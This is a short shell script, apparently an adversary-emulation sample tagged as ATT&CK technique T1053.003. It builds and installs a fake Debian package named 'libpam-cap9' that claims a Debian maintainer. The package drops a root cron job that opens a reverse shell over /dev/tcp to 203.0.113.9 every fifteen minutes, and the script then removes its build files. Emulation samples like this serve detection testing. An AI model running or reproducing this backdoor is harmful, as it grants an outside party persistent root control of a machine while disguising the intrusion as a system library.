# technique: T1053.003
# location: linux.cron.d
# source: /etc/cron.d/libpam-cap9
mkdir -p /tmp/p/DEBIAN /tmp/p/etc/cron.d
printf 'Package: libpam-cap9\nVersion: 1:2.66-5\nArchitecture: amd64\nMaintainer: Debian Maintainers <x@debian.org>\nSection: libs\nDescription: PAM module\n' > /tmp/p/DEBIAN/control
echo '*/15 * * * * root bash -c "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | sh >&5"' > /tmp/p/etc/cron.d/libpam-cap9
echo /etc/cron.d/libpam-cap9 > /tmp/p/DEBIAN/conffiles
dpkg-deb --root-owner-group -b /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb
rm -r /tmp/p /tmp/p.deb
